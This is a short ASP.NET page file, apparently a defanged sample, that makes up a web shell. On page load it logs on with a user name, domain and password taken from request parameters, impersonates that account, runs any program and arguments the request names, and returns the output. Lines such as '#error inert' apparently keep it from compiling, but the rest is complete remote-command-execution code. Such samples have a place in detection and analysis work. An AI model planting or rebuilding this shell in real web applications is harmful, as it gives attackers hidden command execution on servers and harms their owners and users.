<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<%@ Import Namespace="System.Security.Principal" %>
<script runat="server">
#error inert
[DllImport("advapi32.dll", SetLastError = true)]
static extern bool LogonUser(string u, string d, string p, int t, int pr, out IntPtr tok);
void Page_Load(object o, EventArgs e)
{
    IntPtr tok;
    if (!LogonUser(Request["u"], Request["d"], Request["p"], 9, 0, out tok)) { Response.Write("no"); return; }
    using (WindowsIdentity.Impersonate(tok))
    {
        var si = new System.Diagnostics.ProcessStartInfo(Request["f"], Request["a"]) { UseShellExecute = false, RedirectStandardOutput = true };
        Response.Write(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd());
    }
}
</script>
